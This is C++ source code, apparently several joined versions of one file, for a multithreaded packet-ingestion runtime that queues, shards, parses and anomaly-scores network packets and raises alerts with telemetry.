  if (opts_.consumer_batch == 0) opts_.consumer_batch = 1;
}

void IngestRuntime::consume(size_t id, BoundedPacketQueue& queue,
                            PacketScorer& scorer, netio::LinkType link) {
  // Everything below is consumer-local until the per-batch flush: packets
  // are claimed in batches (one queue lock per batch), scored without any
  // shared state, and sink records plus stats counters are published once
  // per batch. Buffers are reused across batches, so the steady-state loop
  // performs no allocation.
  struct Scored {
    netio::PacketView view;
    double score = 0.0;
    double threshold = 0.0;
    bool alerted = false;
  };
  std::vector<netio::SourcePacket> batch;
  std::vector<Scored> pending;
  batch.reserve(opts_.consumer_batch);
  pending.reserve(opts_.consumer_batch);
  while (queue.pop_batch(batch, opts_.consumer_batch) > 0) {
    uint64_t skipped = 0, scored = 0, alerted = 0;
    for (netio::SourcePacket& sp : batch) {
      auto parsed = netio::parse_packet(sp.pkt, link, sp.capture_index);
      if (!parsed.ok()) {
        ++skipped;
        continue;
      }
      const netio::PacketView& view = parsed.value();
      const double score = scorer.score(view);
      const double threshold = scorer.threshold();
      const bool is_alert = score > threshold;
      ++scored;
      if (is_alert) ++alerted;
      if (sink_ != nullptr) {
        pending.push_back(Scored{view, score, threshold, is_alert});
      }
    }
    if (skipped != 0) parse_skipped_.fetch_add(skipped, std::memory_order_relaxed);
    if (scored != 0) scored_.fetch_add(scored, std::memory_order_relaxed);
    if (alerted != 0) alerted_.fetch_add(alerted, std::memory_order_relaxed);
    if (!pending.empty()) {
      std::lock_guard<std::mutex> lock(sink_mu_);
      for (const Scored& p : pending) {
        sink_->on_packet(p.view, p.score, p.alerted);
        if (p.alerted) {
          sink_->on_alert(Alert{p.view.ts, p.view.index, p.score,
                                p.threshold, id});
        }
      }
    }
    pending.clear();
  }
}

Result<IngestStats> IngestRuntime::run(netio::PacketSource& source) {
  enqueued_.store(0);
  parse_skipped_.store(0);
  scored_.store(0);
  alerted_.store(0);
  dropped_snapshot_ = 0;
  high_water_snapshot_ = 0;
  stop_.store(false);

  std::vector<std::unique_ptr<PacketScorer>> scorers;
  scorers.reserve(opts_.consumers);
  for (size_t c = 0; c < opts_.consumers; ++c) {
    scorers.push_back(factory_(c));
    if (!scorers.back()) {
      return Error::make("ingest", "scorer factory returned null for consumer " +
                                       std::to_string(c));
    }
  }

  BoundedPacketQueue queue(opts_.queue_capacity, opts_.overflow);
  const netio::LinkType link = source.link();

  // Consumers follow the parallel.h exception convention: the first failure
  // is captured and rethrown on the caller once every thread has joined.
  std::vector<std::exception_ptr> errors(opts_.consumers);
  std::vector<std::thread> threads;
  threads.reserve(opts_.consumers);
  for (size_t c = 0; c < opts_.consumers; ++c) {
    threads.emplace_back([this, c, &queue, &scorers, &errors, link] {
      try {
        consume(c, queue, *scorers[c], link);
      } catch (...) {
        errors[c] = std::current_exception();
        queue.close();  // don't leave the producer blocked on a dead run
      }
    });
  }

  // Producer loop on the calling thread.
  netio::SourcePacket sp;
  while (!stop_.load(std::memory_order_relaxed) && source.next(sp)) {
    if (!queue.push(std::move(sp))) break;  // closed: consumer died or stop
    enqueued_.fetch_add(1, std::memory_order_relaxed);
  }
  queue.close();
  for (auto& t : threads) t.join();

  dropped_snapshot_ = queue.dropped();
  high_water_snapshot_ = queue.high_water();
  for (auto& err : errors) {
    if (err) std::rethrow_exception(err);
  }
  return stats();
}

IngestStats IngestRuntime::stats() const {
  IngestStats s;
  s.enqueued = enqueued_.load(std::memory_order_relaxed);
  s.dropped = dropped_snapshot_;
  s.parse_skipped = parse_skipped_.load(std::memory_order_relaxed);
  s.scored = scored_.load(std::memory_order_relaxed);
  s.alerted = alerted_.load(std::memory_order_relaxed);
  s.queue_high_water = high_water_snapshot_;
  return s;
}

}  // namespace lumen::core
