#include "core/ingest.h"

#include <algorithm>
#include <chrono>
#include <exception>
#include <iostream>
#include <stdexcept>
#include <string>
#include <thread>
#include <utility>

#include "common/flat_map.h"
#include "common/spsc_ring.h"
#include "core/stream_op.h"
#include "netio/parse.h"

namespace lumen::core {

BoundedPacketQueue::BoundedPacketQueue(size_t capacity, OverflowPolicy policy)
    : capacity_(capacity == 0 ? 1 : capacity), policy_(policy) {}

bool BoundedPacketQueue::push(netio::SourcePacket p) {
  std::unique_lock<std::mutex> lock(mu_);
  if (policy_ == OverflowPolicy::kBlock) {
    not_full_.wait(lock,
                   [this] { return q_.size() < capacity_ || closed_; });
    if (closed_) return false;
  } else if (q_.size() >= capacity_) {
    if (closed_) return false;
    q_.pop_front();
    note_drop_locked();
  } else if (closed_) {
    return false;
  }
  const bool was_empty = q_.empty();
  q_.push_back(std::move(p));
  high_water_ = std::max(high_water_, q_.size());
  note_size_locked();
  lock.unlock();
  // Consumers only sleep on an empty queue, so only the empty->non-empty
  // transition needs a wakeup; steady-state pushes skip the notify.
  if (was_empty) not_empty_.notify_one();
  return true;
}

bool BoundedPacketQueue::pop(netio::SourcePacket& out) {
  std::unique_lock<std::mutex> lock(mu_);
  not_empty_.wait(lock, [this] { return !q_.empty() || closed_; });
  if (q_.empty()) return false;  // closed and drained
  const bool was_full = q_.size() >= capacity_;
  out = std::move(q_.front());
  q_.pop_front();
  note_size_locked();
  const bool still_nonempty = !q_.empty();
  lock.unlock();
  if (was_full) not_full_.notify_one();
  if (still_nonempty) not_empty_.notify_one();
  return true;
}

size_t BoundedPacketQueue::pop_batch(std::vector<netio::SourcePacket>& out,
                                     size_t max) {
  out.clear();
  if (max == 0) max = 1;
  std::unique_lock<std::mutex> lock(mu_);
  not_empty_.wait(lock, [this] { return !q_.empty() || closed_; });
  if (q_.empty()) return 0;  // closed and drained
  const bool was_full = q_.size() >= capacity_;
  const size_t n = std::min(max, q_.size());
  for (size_t i = 0; i < n; ++i) {
    out.push_back(std::move(q_.front()));
    q_.pop_front();
  }
  note_size_locked();
  const bool still_nonempty = !q_.empty();
  lock.unlock();
  // A blocked producer only waits while the queue is at capacity.
  if (was_full) not_full_.notify_one();
  // If packets remain, another consumer can run concurrently; hand the
  // wakeup on since push() only notifies on the empty->non-empty edge.
  if (still_nonempty) not_empty_.notify_one();
  return n;
}

void BoundedPacketQueue::close() {
  {
    std::lock_guard<std::mutex> lock(mu_);
    closed_ = true;
  }
  not_full_.notify_all();
  not_empty_.notify_all();
}

void BoundedPacketQueue::attach_telemetry(telemetry::Gauge* depth,
                                          telemetry::Gauge* high_water,
                                          telemetry::Counter* dropped) {
  std::lock_guard<std::mutex> lock(mu_);
  depth_gauge_ = depth;
  high_water_gauge_ = high_water;
  dropped_counter_ = dropped;
  // Catch the mirror up with drops that predate attachment; from here on
  // note_drop_locked keeps counter and dropped_ in lockstep. Without this,
  // pre-attach drops were lost from the mirror for good and dropped() and
  // the counter disagreed for the rest of the queue's life.
  if (dropped_counter_ != nullptr && mirrored_dropped_ < dropped_) {
    dropped_counter_->add(dropped_ - mirrored_dropped_);
    mirrored_dropped_ = dropped_;
  }
  note_size_locked();
}

void BoundedPacketQueue::note_size_locked() {
  if (depth_gauge_ != nullptr) {
    depth_gauge_->set(static_cast<double>(q_.size()));
  }
  if (high_water_gauge_ != nullptr) {
    high_water_gauge_->update_max(static_cast<double>(high_water_));
  }
}

void BoundedPacketQueue::note_drop_locked() {
  // Counter bump and dropped_ increment share the critical section of the
  // drop itself, so a scraper can never observe the mirror ahead of the
  // authoritative count (it may lag by at most the in-flight push).
  ++dropped_;
  if (dropped_counter_ != nullptr) {
    dropped_counter_->add(1);
    ++mirrored_dropped_;
  }
}

uint64_t BoundedPacketQueue::dropped() const {
  std::lock_guard<std::mutex> lock(mu_);
  return dropped_;
}

size_t BoundedPacketQueue::high_water() const {
  std::lock_guard<std::mutex> lock(mu_);
  return high_water_;
}

uint64_t FlowShardRouter::flow_hash(const netio::RawPacket& pkt) const {
  const uint8_t* b = pkt.data.data();
  const size_t n = pkt.data.size();
  const auto be16 = [b](size_t off) {
    return (uint64_t{b[off]} << 8) | b[off + 1];
  };
  const auto be32 = [b](size_t off) {
    return (uint32_t{b[off]} << 24) | (uint32_t{b[off + 1]} << 16) |
           (uint32_t{b[off + 2]} << 8) | b[off + 3];
  };
  const auto mac48 = [b](size_t off) {
    uint64_t v = 0;
    for (size_t i = 0; i < 6; ++i) v = (v << 8) | b[off + i];
    return v;
  };
  if (link_ == netio::LinkType::kEthernet) {
    // IPv4 frame: the order-independent IP-pair channel key, canonicalized
    // exactly like core/kitsune_extractor.cpp (low address first), hashed
    // with FlatMap's splitmix64 finalizer. Byte offsets per netio/parse.cpp:
    // ether_type at 12, IPv4 src/dst at 26/30 (14-byte Ethernet header).
    if (n >= 34 && be16(12) == 0x0800) {
      const uint32_t src = be32(26);
      const uint32_t dst = be32(30);
      const bool fwd = src <= dst;
      const uint32_t ip_a = fwd ? src : dst;
      const uint32_t ip_b = fwd ? dst : src;
      return hash_u64((uint64_t{ip_a} << 32) | ip_b);
    }
    // Non-IP frame: the extractor only keeps MAC-level context for these,
    // so the source MAC (bytes 6..11) is their whole flow identity.
    if (n >= 12) return hash_u64(mac48(6));
    return 0;  // too short to parse; lands on shard 0 and is skipped there
  }
  // 802.11: the transmitter address (addr2, bytes 10..15) is what
  // netio/parse.cpp reports as the source MAC.
  if (n >= 16) return hash_u64(mac48(10));
  return 0;
}

IngestRuntime::Options IngestRuntime::Options::normalized(
    Options opts, std::string* diagnostic) {
  std::string adjustments;
  const auto clamp_field = [&adjustments](size_t& v, size_t lo, size_t hi,
                                          const char* name) {
    const size_t was = v;
    v = std::clamp(v, lo, hi);
    if (v == was) return;
    if (!adjustments.empty()) adjustments += ", ";
    adjustments += std::string(name) + " " + std::to_string(was) + " -> " +
                   std::to_string(v);
  };
  clamp_field(opts.queue_capacity, 1, size_t{1} << 24, "queue_capacity");
  clamp_field(opts.consumers, 1, 256, "consumers");
  // shards = 0 selects single-queue mode, so only the upper bound applies.
  clamp_field(opts.shards, 0, 256, "shards");
  clamp_field(opts.consumer_batch, 1, 65536, "consumer_batch");
  clamp_field(opts.score_batch, 1, 65536, "score_batch");
  if (diagnostic != nullptr) {
    *diagnostic =
        adjustments.empty() ? "" : "ingest: Options clamped: " + adjustments;
  }
  return opts;
}

namespace {

/// PacketFeed over the shared mutex+condvar queue (single-queue mode).
class QueueFeed : public PacketFeed {
 public:
  explicit QueueFeed(BoundedPacketQueue& q) : q_(q) {}
  size_t claim(std::vector<netio::SourcePacket>& out, size_t max) override {
    return q_.pop_batch(out, max);
  }

 private:
  BoundedPacketQueue& q_;
};

/// PacketFeed over one shard's private SPSC ring (sharded mode).
class RingFeed : public PacketFeed {
 public:
  explicit RingFeed(SpscRing<netio::SourcePacket>& r) : r_(r) {}
  size_t claim(std::vector<netio::SourcePacket>& out, size_t max) override {
    for (;;) {
      if (!r_.wait_nonempty()) return 0;  // closed and drained
      const size_t n = r_.try_pop(out, max == 0 ? 1 : max);
      if (n != 0) return n;
    }
  }

 private:
  SpscRing<netio::SourcePacket>& r_;
};

}  // namespace

IngestRuntime::IngestRuntime(Options opts, ScorerFactory factory,
                             AlertSink* sink)
    : sink_(sink) {
  std::string diag;
  opts_ = Options::normalized(std::move(opts), &diag);
  if (!diag.empty()) std::cerr << diag << "\n";
  scorer_slot_ = std::make_unique<ModelSlot<ScorerFactory>>(
      std::make_unique<ScorerFactory>(std::move(factory)),
      effective_consumers());
  // Core accounting always lives in registry counters (the IngestStats
  // façade reads them back); the extended instruments — queue gauges and
  // per-stage latency histograms, with their clock reads — only run when
  // the embedder gave us a registry to publish into.
  extended_ = opts_.registry != nullptr;
  reg_ = extended_ ? opts_.registry : &local_reg_;
  const std::string& p = opts_.instrument_prefix;
  enqueued_ = &reg_->counter(p + "enqueued");
  dropped_ = &reg_->counter(p + "dropped");
  parse_skipped_ = &reg_->counter(p + "parse_skipped");
  scored_ = &reg_->counter(p + "scored");
  alerted_ = &reg_->counter(p + "alerted");
  swaps_applied_ = &reg_->counter(p + "swaps_applied");
  if (extended_) {
    queue_depth_ = &reg_->gauge(p + "queue.depth");
    queue_high_water_ = &reg_->gauge(p + "queue.high_water");
    extract_ns_ = &reg_->histogram(p + "stage.extract_ns");
    score_ns_ = &reg_->histogram(p + "stage.score_ns");
    flush_ns_ = &reg_->histogram(p + "stage.flush_ns");
    score_batch_rows_ = &reg_->histogram(p + "score.batch_rows");
    if (opts_.shards > 0) {
      shard_instruments_.resize(opts_.shards);
      for (size_t i = 0; i < opts_.shards; ++i) {
        const std::string sp = p + "shard" + std::to_string(i) + ".";
        shard_instruments_[i] =
            ShardInstruments{&reg_->counter(sp + "routed"),
                             &reg_->counter(sp + "scored"),
                             &reg_->counter(sp + "alerted"),
                             &reg_->counter(sp + "parse_skipped"),
                             &reg_->gauge(sp + "ring.high_water")};
      }
    }
  }
  // stats() before the first run() must read zero even when another
  // runtime already bumped these (shared registry, shared prefix).
  base_ = Baseline{enqueued_->value(), dropped_->value(),
                   parse_skipped_->value(), scored_->value(),
                   alerted_->value()};
}

IngestRuntime::IngestRuntime(Options opts, StreamPipelineFactory factory,
                             EpochSink* sink)
    : IngestRuntime(std::move(opts), ScorerFactory{}, nullptr) {
  pipeline_factory_ = std::move(factory);
  epoch_sink_ = sink;
}

void IngestRuntime::deploy(ScorerFactory factory) {
  scorer_slot_->publish(std::make_unique<ScorerFactory>(std::move(factory)));
}

void IngestRuntime::consume(size_t id, PacketFeed& feed,
                            std::unique_ptr<PacketScorer> scorer,
                            uint64_t scorer_version, netio::LinkType link) {
  // Everything below is consumer-local until the per-batch flush: packets
  // are claimed in batches (one queue lock / ring publication per batch),
  // scored without any shared state, and sink records plus stats counters
  // are published once per batch. Buffers are reused across batches, so
  // the steady-state loop performs no allocation. Telemetry is also
  // per-batch — four clock reads and a handful of relaxed adds per batch,
  // never per packet.
  using Clock = std::chrono::steady_clock;
  const auto ns_between = [](Clock::time_point a, Clock::time_point b) {
    return std::chrono::duration<double, std::nano>(b - a).count();
  };
  struct Scored {
    netio::PacketView view;
    double score = 0.0;
    double threshold = 0.0;
    bool alerted = false;
  };
  ShardInstruments* si =
      id < shard_instruments_.size() ? &shard_instruments_[id] : nullptr;
  std::vector<netio::SourcePacket> batch;
  std::vector<netio::PacketView> parsed;
  std::vector<double> scores;
  std::vector<Scored> pending;
  batch.reserve(opts_.consumer_batch);
  parsed.reserve(opts_.consumer_batch);
  scores.reserve(opts_.consumer_batch);
  pending.reserve(opts_.consumer_batch);
  while (feed.claim(batch, opts_.consumer_batch) > 0) {
    // Hot-swap check at the batch boundary: a ModelSlot pin is two atomic
    // loads plus one store — the cost of noticing a deploy() — and the
    // rebuild itself only runs when the observed epoch moved.
    {
      const auto pinned = scorer_slot_->pin(id);
      if (pinned.version != scorer_version) {
        auto next = (*pinned.value)(id);
        if (!next) {
          throw std::runtime_error(
              "ingest: hot-swapped scorer factory returned null for "
              "consumer " +
              std::to_string(id));
        }
        scorer = std::move(next);
        scorer_version = pinned.version;
        swaps_applied_->add(1);
      }
    }
    uint64_t skipped = 0, scored = 0, alerted = 0;
    Clock::time_point t0, t1, t2;
    // Stage 1 — extract: parse the whole batch (views borrow the packet
    // bytes in `batch`, which outlives the flush below).
    if (extended_) t0 = Clock::now();
    parsed.clear();
    for (netio::SourcePacket& sp : batch) {
      auto p = netio::parse_packet(sp.pkt, link, sp.capture_index);
      if (!p.ok()) {
        ++skipped;
        continue;
      }
      parsed.push_back(p.value());
    }
    if (extended_) t1 = Clock::now();
    // Stage 2 — score, in consumption order (scorer state is per-consumer).
    // The claimed batch is scored in score_batch-row micro-batches through
    // the fused PacketScorer::score_batch path; per-packet alert ordering
    // is preserved because scores land positionally in `scores` and the
    // alert/sink pass below walks them in consumption order. A tail chunk
    // is just a smaller micro-batch — the batch-invariance contract makes
    // its scores identical either way.
    scores.resize(parsed.size());
    for (size_t lo = 0; lo < parsed.size(); lo += opts_.score_batch) {
      const size_t n = std::min(opts_.score_batch, parsed.size() - lo);
      scorer->score_batch(
          std::span<const netio::PacketView>(parsed.data() + lo, n),
          scores.data() + lo);
      if (extended_) score_batch_rows_->record(static_cast<double>(n));
    }
    const double threshold = scorer->threshold();
    for (size_t i = 0; i < parsed.size(); ++i) {
      const netio::PacketView& view = parsed[i];
      const double score = scores[i];
      const bool is_alert = score > threshold;
      ++scored;
      if (is_alert) ++alerted;
      if (sink_ != nullptr) {
        pending.push_back(Scored{view, score, threshold, is_alert});
      }
    }
    if (extended_) t2 = Clock::now();
    if (skipped != 0) parse_skipped_->add(skipped);
    if (scored != 0) scored_->add(scored);
    if (alerted != 0) alerted_->add(alerted);
    if (si != nullptr) {
      if (skipped != 0) si->parse_skipped->add(skipped);
      if (scored != 0) si->scored->add(scored);
      if (alerted != 0) si->alerted->add(alerted);
    }
    // Stage 3 — flush the batch's sink records.
    if (!pending.empty()) {
      std::lock_guard<std::mutex> lock(sink_mu_);
      for (const Scored& p : pending) {
        sink_->on_packet(p.view, p.score, p.alerted);
        if (p.alerted) {
          sink_->on_alert(Alert{p.view.ts, p.view.index, p.score,
                                p.threshold, id});
        }
      }
    }
    pending.clear();
    if (extended_) {
      const Clock::time_point t3 = Clock::now();
      // extract/score samples are the batch's mean per-packet cost; flush
      // is the whole batch's sink hand-off (it is per-batch by design).
      if (!batch.empty()) {
        extract_ns_->record(ns_between(t0, t1) /
                            static_cast<double>(batch.size()));
      }
      if (!parsed.empty()) {
        score_ns_->record(ns_between(t1, t2) /
                          static_cast<double>(parsed.size()));
      }
      flush_ns_->record(ns_between(t2, t3));
    }
  }
}

void IngestRuntime::consume_pipeline(size_t id, PacketFeed& feed,
                                     StreamPipeline& pipe,
                                     netio::LinkType link) {
  // Same staged batch loop as consume(), but the scoring stage feeds the
  // compiled operator chain: the chain's own state machinery (group
  // directories, window clocks, accumulators) replaces the PacketScorer.
  // Epoch emission happens synchronously inside pipe.push/finish via the
  // callback installed in run(); everything else is consumer-local.
  using Clock = std::chrono::steady_clock;
  const auto ns_between = [](Clock::time_point a, Clock::time_point b) {
    return std::chrono::duration<double, std::nano>(b - a).count();
  };
  ShardInstruments* si =
      id < shard_instruments_.size() ? &shard_instruments_[id] : nullptr;
  std::vector<netio::SourcePacket> batch;
  std::vector<netio::PacketView> parsed;
  batch.reserve(opts_.consumer_batch);
  parsed.reserve(opts_.consumer_batch);
  while (feed.claim(batch, opts_.consumer_batch) > 0) {
    uint64_t skipped = 0;
    Clock::time_point t0, t1, t2;
    if (extended_) t0 = Clock::now();
    parsed.clear();
    for (netio::SourcePacket& sp : batch) {
      auto p = netio::parse_packet(sp.pkt, link, sp.capture_index);
      if (!p.ok()) {
        ++skipped;
        continue;
      }
      parsed.push_back(p.value());
    }
    if (extended_) t1 = Clock::now();
    for (const netio::PacketView& view : parsed) pipe.push(view);
    if (extended_) t2 = Clock::now();
    if (skipped != 0) parse_skipped_->add(skipped);
    if (!parsed.empty()) scored_->add(parsed.size());
    if (si != nullptr) {
      if (skipped != 0) si->parse_skipped->add(skipped);
      if (!parsed.empty()) si->scored->add(parsed.size());
    }
    if (extended_) {
      if (!batch.empty()) {
        extract_ns_->record(ns_between(t0, t1) /
                            static_cast<double>(batch.size()));
      }
      if (!parsed.empty()) {
        score_ns_->record(ns_between(t1, t2) /
                          static_cast<double>(parsed.size()));
      }
    }
  }
  // End of stream: flush the chain's open windows/micro-batches.
  pipe.finish();
}

Result<IngestStats> IngestRuntime::drive(
    netio::PacketSource& source,
    const std::function<void(size_t, PacketFeed&, netio::LinkType)>&
        consumer_body) {
  // Per-run façade semantics over cumulative instruments: re-baseline now.
  base_ = Baseline{enqueued_->value(), dropped_->value(),
                   parse_skipped_->value(), scored_->value(),
                   alerted_->value()};
  high_water_snapshot_ = 0;
  stop_.store(false);
  if (opts_.shards > 0) return drive_sharded(source, consumer_body);
  return drive_single_queue(source, consumer_body);
}

Result<IngestStats> IngestRuntime::drive_single_queue(
    netio::PacketSource& source,
    const std::function<void(size_t, PacketFeed&, netio::LinkType)>&
        consumer_body) {
  BoundedPacketQueue queue(opts_.queue_capacity, opts_.overflow);
  if (extended_) {
    // The queue gauges describe THIS run's queue: reset them before
    // attaching, or a reused runtime (or a second runtime sharing the
    // registry and prefix) keeps publishing the previous run's high-water
    // mark — update_max never comes back down on its own.
    queue_depth_->set(0.0);
    queue_high_water_->set(0.0);
    // Live queue instruments: depth, high-water, and drops update under
    // the queue's own lock, so scrapers see them mid-run (the historic
    // snapshots only materialized after run() returned).
    queue.attach_telemetry(queue_depth_, queue_high_water_, dropped_);
  }
  const netio::LinkType link = source.link();
  QueueFeed feed(queue);

  // Consumers follow the parallel.h exception convention: the first failure
  // is captured and rethrown on the caller once every thread has joined.
  std::vector<std::exception_ptr> errors(opts_.consumers);
  std::vector<std::thread> threads;
  threads.reserve(opts_.consumers);
  for (size_t c = 0; c < opts_.consumers; ++c) {
    threads.emplace_back([c, &queue, &feed, &errors, link, &consumer_body] {
      try {
        consumer_body(c, feed, link);
      } catch (...) {
        errors[c] = std::current_exception();
        queue.close();  // don't leave the producer blocked on a dead run
      }
    });
  }

  // Producer loop on the calling thread.
  netio::SourcePacket sp;
  while (!stop_.load(std::memory_order_relaxed) && source.next(sp)) {
    if (!queue.push(std::move(sp))) break;  // closed: consumer died or stop
    enqueued_->add(1);
  }
  queue.close();
  for (auto& t : threads) t.join();

  // With attached telemetry the queue streamed drops into the counter
  // live; otherwise fold them in now.
  if (!extended_) dropped_->add(queue.dropped());
  high_water_snapshot_ = queue.high_water();
  for (auto& err : errors) {
    if (err) std::rethrow_exception(err);
  }
  return stats();
}

Result<IngestStats> IngestRuntime::drive_sharded(
    netio::PacketSource& source,
    const std::function<void(size_t, PacketFeed&, netio::LinkType)>&
        consumer_body) {
  const size_t n_shards = opts_.shards;
  const netio::LinkType link = source.link();
  FlowShardRouter router(n_shards, link);

  std::vector<std::unique_ptr<SpscRing<netio::SourcePacket>>> rings;
  std::vector<RingFeed> feeds;
  rings.reserve(n_shards);
  feeds.reserve(n_shards);
  for (size_t i = 0; i < n_shards; ++i) {
    rings.push_back(
        std::make_unique<SpscRing<netio::SourcePacket>>(opts_.queue_capacity));
    feeds.emplace_back(*rings.back());
  }
  if (extended_) {
    // Same reset-before-run contract as the single-queue gauges; in this
    // mode queue.high_water reports the max ring high-water across shards.
    queue_depth_->set(0.0);
    queue_high_water_->set(0.0);
    for (ShardInstruments& si : shard_instruments_) {
      si.ring_high_water->set(0.0);
    }
  }

  std::vector<std::exception_ptr> errors(n_shards);
  std::vector<std::thread> threads;
  threads.reserve(n_shards);
  for (size_t c = 0; c < n_shards; ++c) {
    threads.emplace_back([c, &feeds, &rings, &errors, link, &consumer_body] {
      try {
        consumer_body(c, feeds[c], link);
      } catch (...) {
        errors[c] = std::current_exception();
        // Close every ring: siblings drain and exit, and the producer
        // stops instead of feeding a dead run (mirrors queue.close()).
        for (auto& r : rings) r->close();
      }
    });
  }

  // Producer loop: route by flow hash, push into the owning shard's ring.
  // Per-shard routed counts and ring high-water marks are mirrored into
  // telemetry in periodic flushes, never per packet.
  std::vector<uint64_t> routed(n_shards, 0);
  std::vector<uint64_t> routed_flushed(n_shards, 0);
  const auto flush_shard_telemetry = [&] {
    for (size_t i = 0; i < shard_instruments_.size(); ++i) {
      if (routed[i] != routed_flushed[i]) {
        shard_instruments_[i].routed->add(routed[i] - routed_flushed[i]);
        routed_flushed[i] = routed[i];
      }
      shard_instruments_[i].ring_high_water->update_max(
          static_cast<double>(rings[i]->high_water()));
    }
  };
  netio::SourcePacket sp;
  uint64_t since_flush = 0;
  while (!stop_.load(std::memory_order_relaxed) && source.next(sp)) {
    const size_t s = router.shard_of(sp.pkt);
    SpscRing<netio::SourcePacket>& ring = *rings[s];
    bool accepted = ring.try_push(&sp, 1) == 1;
    if (!accepted) {
      if (ring.closed()) break;  // consumer died: wind down the run
      if (opts_.overflow == OverflowPolicy::kDropOldest) {
        // An SPSC producer cannot evict the head (the consumer owns it),
        // so the policy degrades to shedding the incoming packet. It is
        // still counted enqueued below, preserving the invariant
        // scored + parse_skipped == enqueued - dropped.
        dropped_->add(1);
      } else {
        while (ring.wait_notfull()) {
          if (ring.try_push(&sp, 1) == 1) {
            accepted = true;
            break;
          }
        }
        if (!accepted) break;  // closed while blocked: consumer died
      }
    }
    enqueued_->add(1);
    ++routed[s];
    if (++since_flush >= 8192) {
      since_flush = 0;
      flush_shard_telemetry();
    }
  }
  for (auto& r : rings) r->close();
  for (auto& t : threads) t.join();

  size_t hw = 0;
  for (const auto& r : rings) hw = std::max(hw, r->high_water());
  high_water_snapshot_ = hw;
  flush_shard_telemetry();
  if (extended_) queue_high_water_->update_max(static_cast<double>(hw));
  for (auto& err : errors) {
    if (err) std::rethrow_exception(err);
  }
  return stats();
}

Result<IngestStats> IngestRuntime::run(netio::PacketSource& source) {
  const size_t n_consumers = effective_consumers();
  if (pipeline_factory_) {
    std::vector<std::unique_ptr<StreamPipeline>> pipes;
    pipes.reserve(n_consumers);
    for (size_t c = 0; c < n_consumers; ++c) {
      pipes.push_back(pipeline_factory_(c));
      if (!pipes.back()) {
        return Error::make(
            "ingest",
            "pipeline factory returned null for consumer " + std::to_string(c));
      }
      pipes.back()->set_callback([this, c](EpochBatch&& b) {
        uint64_t alerts = 0;
        for (const int p : b.predictions) alerts += p != 0 ? 1 : 0;
        if (alerts != 0) {
          alerted_->add(alerts);
          if (c < shard_instruments_.size()) {
            shard_instruments_[c].alerted->add(alerts);
          }
        }
        if (epoch_sink_ != nullptr) {
          std::lock_guard<std::mutex> lock(sink_mu_);
          epoch_sink_->on_epoch(b, c);
        }
      });
    }
    return drive(source,
                 [this, &pipes](size_t id, PacketFeed& feed,
                                netio::LinkType link) {
                   consume_pipeline(id, feed, *pipes[id], link);
                 });
  }

  // Build each consumer's initial scorer from the currently-deployed
  // factory, announcing the build epoch so consume() only rebuilds when
  // deploy() publishes something newer.
  std::vector<std::unique_ptr<PacketScorer>> scorers;
  std::vector<uint64_t> versions;
  scorers.reserve(n_consumers);
  versions.reserve(n_consumers);
  for (size_t c = 0; c < n_consumers; ++c) {
    const auto pinned = scorer_slot_->pin(c);
    scorers.push_back((*pinned.value)(c));
    versions.push_back(pinned.version);
    if (!scorers.back()) {
      return Error::make("ingest", "scorer factory returned null for consumer " +
                                       std::to_string(c));
    }
  }
  return drive(source,
               [this, &scorers, &versions](size_t id, PacketFeed& feed,
                                           netio::LinkType link) {
                 consume(id, feed, std::move(scorers[id]), versions[id], link);
               });
}

IngestStats IngestRuntime::stats() const {
  IngestStats s;
  s.enqueued = enqueued_->value() - base_.enqueued;
  s.dropped = dropped_->value() - base_.dropped;
  s.parse_skipped = parse_skipped_->value() - base_.parse_skipped;
  s.scored = scored_->value() - base_.scored;
  s.alerted = alerted_->value() - base_.alerted;
  s.queue_high_water = high_water_snapshot_;
  return s;
}

}  // namespace lumen::core
