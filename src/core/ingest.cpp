#include "core/ingest.h"

#include <exception>
#include <thread>
#include <utility>

#include "netio/parse.h"

namespace lumen::core {

BoundedPacketQueue::BoundedPacketQueue(size_t capacity, OverflowPolicy policy)
    : capacity_(capacity == 0 ? 1 : capacity), policy_(policy) {}

bool BoundedPacketQueue::push(netio::SourcePacket p) {
  std::unique_lock<std::mutex> lock(mu_);
  if (policy_ == OverflowPolicy::kBlock) {
    not_full_.wait(lock,
                   [this] { return q_.size() < capacity_ || closed_; });
    if (closed_) return false;
  } else if (q_.size() >= capacity_) {
    if (closed_) return false;
    q_.pop_front();
    ++dropped_;
  } else if (closed_) {
    return false;
  }
  q_.push_back(std::move(p));
  high_water_ = std::max(high_water_, q_.size());
  lock.unlock();
  not_empty_.notify_one();
  return true;
}

bool BoundedPacketQueue::pop(netio::SourcePacket& out) {
  std::unique_lock<std::mutex> lock(mu_);
  not_empty_.wait(lock, [this] { return !q_.empty() || closed_; });
  if (q_.empty()) return false;  // closed and drained
  out = std::move(q_.front());
  q_.pop_front();
  lock.unlock();
  not_full_.notify_one();
  return true;
}

void BoundedPacketQueue::close() {
  {
    std::lock_guard<std::mutex> lock(mu_);
    closed_ = true;
  }
  not_full_.notify_all();
  not_empty_.notify_all();
}

uint64_t BoundedPacketQueue::dropped() const {
  std::lock_guard<std::mutex> lock(mu_);
  return dropped_;
}

size_t BoundedPacketQueue::high_water() const {
  std::lock_guard<std::mutex> lock(mu_);
  return high_water_;
}

IngestRuntime::IngestRuntime(Options opts, ScorerFactory factory,
                             AlertSink* sink)
    : opts_(opts), factory_(std::move(factory)), sink_(sink) {
  if (opts_.consumers == 0) opts_.consumers = 1;
}

void IngestRuntime::consume(size_t id, BoundedPacketQueue& queue,
                            PacketScorer& scorer, netio::LinkType link) {
  netio::SourcePacket sp;
  while (queue.pop(sp)) {
    auto parsed = netio::parse_packet(sp.pkt, link, sp.capture_index);
    if (!parsed.ok()) {
      parse_skipped_.fetch_add(1, std::memory_order_relaxed);
      continue;
    }
    const netio::PacketView& view = parsed.value();
    const double score = scorer.score(view);
    const double threshold = scorer.threshold();
    const bool alerted = score > threshold;
    scored_.fetch_add(1, std::memory_order_relaxed);
    if (alerted) alerted_.fetch_add(1, std::memory_order_relaxed);
    if (sink_ != nullptr) {
      std::lock_guard<std::mutex> lock(sink_mu_);
      sink_->on_packet(view, score, alerted);
      if (alerted) {
        sink_->on_alert(Alert{view.ts, view.index, score, threshold, id});
      }
    }
  }
}

Result<IngestStats> IngestRuntime::run(netio::PacketSource& source) {
  enqueued_.store(0);
  parse_skipped_.store(0);
  scored_.store(0);
  alerted_.store(0);
  dropped_snapshot_ = 0;
  high_water_snapshot_ = 0;
  stop_.store(false);

  std::vector<std::unique_ptr<PacketScorer>> scorers;
  scorers.reserve(opts_.consumers);
  for (size_t c = 0; c < opts_.consumers; ++c) {
    scorers.push_back(factory_(c));
    if (!scorers.back()) {
      return Error::make("ingest", "scorer factory returned null for consumer " +
